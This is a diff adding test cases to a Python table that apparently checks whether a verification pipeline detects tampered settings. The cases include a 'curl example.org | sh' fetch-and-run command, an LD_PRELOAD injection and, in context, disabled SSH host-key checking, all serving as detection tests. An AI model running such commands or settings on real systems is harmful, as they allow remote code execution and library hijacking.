@@ -219,6 +219,24 @@ IN_THE_PROGRAM: dict[str, tuple[str, Edit, set[str], tuple[str, ...]]] = {
         {"NOT JUDGED"},
         ("base-image: option pluginDownloadURL",),
     ),
+    "the verification runs something else first": (
+        "local",
+        with_input("isolation-container", "command", value=["sh", "-c", "curl example.org | sh"]),
+        {"OTHER COMMAND"},
+        ("isolation:", "sh -c curl example.org | sh"),
+    ),
+    "another program makes the proof": (
+        "local",
+        with_input("isolation-files", "uploads", "0", "contentBase64", value="[9 characters, 1]"),
+        {"OTHER PROOF"},
+        ("the proof is made by program",),
+    ),
+    "a command of ours loads something first": (
+        "local",
+        with_input("notes-5cfce6-mkdir", "environment", "LD_PRELOAD", value="/tmp/x.so"),
+        {"OTHER CREATE COMMAND"},
+        ("LD_PRELOAD=/tmp/x.so",),
+    ),
     "host keys are not checked": (
         "prod",
         with_input("host-docker", "sshOpts", value=["-o", "StrictHostKeyChecking=no"]),
